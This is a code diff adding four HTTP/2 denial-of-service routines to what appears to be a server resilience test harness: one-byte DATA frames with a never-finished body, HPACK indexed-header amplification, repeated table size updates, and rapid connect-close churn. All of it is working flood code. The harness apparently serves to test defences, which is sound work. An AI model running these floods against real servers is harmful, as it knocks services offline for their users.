@@ -170,6 +170,51 @@ def partial_messages(attacker, connection, stop):
 
 
 @again
+def crumbs(attacker, connection, stop):
+    """Requests in frames of one byte each, of which the last byte never comes."""
+    body = http2.message(b"x" * (4 << 20))
+    for place in range(0, 60000, 200):
+        for stream in range(1, 200, 2):
+            begin = attacker.call(stream, LIST) if place == 0 else b""
+            attacker.send(connection, begin + b"".join(
+                http2.frame(DATA, 0, stream, body[at:at + 1]) for at in range(place, place + 200)))
+    while not stop.wait(1):
+        attacker.send(connection, http2.frame(PING, 0, 0, b"12345678"))
+
+
+@again
+def indexed_headers(attacker, connection, stop):
+    """Header blocks of single bytes, each of which stands for a header of 4 KB that was sent before (RFC 7541)."""
+    attacker.send(connection, attacker.call(1, WATCH, b""))
+    kept = b"\x40" + http2.text(b"x-long") + http2.long_text(3900)
+    stream = 3
+    while not stop.is_set():
+        block = (kept if stream == 3 else b"") + http2.call_headers(CHECK, more=attacker.more) + b"\xbe" * 12000
+        attacker.send(connection, http2.frame(HEADERS, END_HEADERS, stream, block))
+        stream += 2
+
+
+@again
+def table_sizes(attacker, connection, stop):
+    """Header blocks that say again and again how large the table of headers is."""
+    attacker.send(connection, attacker.call(1, WATCH, b""))
+    stream = 3
+    while not stop.is_set():
+        block = b"\x20\x3f\xe1\x1f" * 4000 + http2.call_headers(CHECK, more=attacker.more)
+        attacker.send(connection, http2.frame(HEADERS, END_HEADERS, stream, block))
+        stream += 2
+
+
+def hellos(attacker, stop):
+    """Connections that are gone as soon as they are greeted."""
+    while not stop.is_set():
+        try:
+            attacker.connect().close()
+        except OSError:
+            stop.wait(0.005)
+
+
+@again
 def garbage(attacker, connection, stop):
     """Frames of every kind, with contents drawn by chance."""
     chance = random.Random(os.getpid())
@@ -198,5 +243,5 @@ def silence(attacker, stop):
 
 
 ATTACKS = {attack.__name__: attack for attack in (
-    header_blocks, many_headers, resets, provoked_resets, hang_ups, unread_answers, pings, settings_frames,
-    empty_frames, unknown_calls, partial_messages, garbage, silence)}
+    header_blocks, many_headers, indexed_headers, table_sizes, resets, provoked_resets, hang_ups, unread_answers, pings,
+    settings_frames, empty_frames, unknown_calls, partial_messages, crumbs, garbage, hellos, silence)}
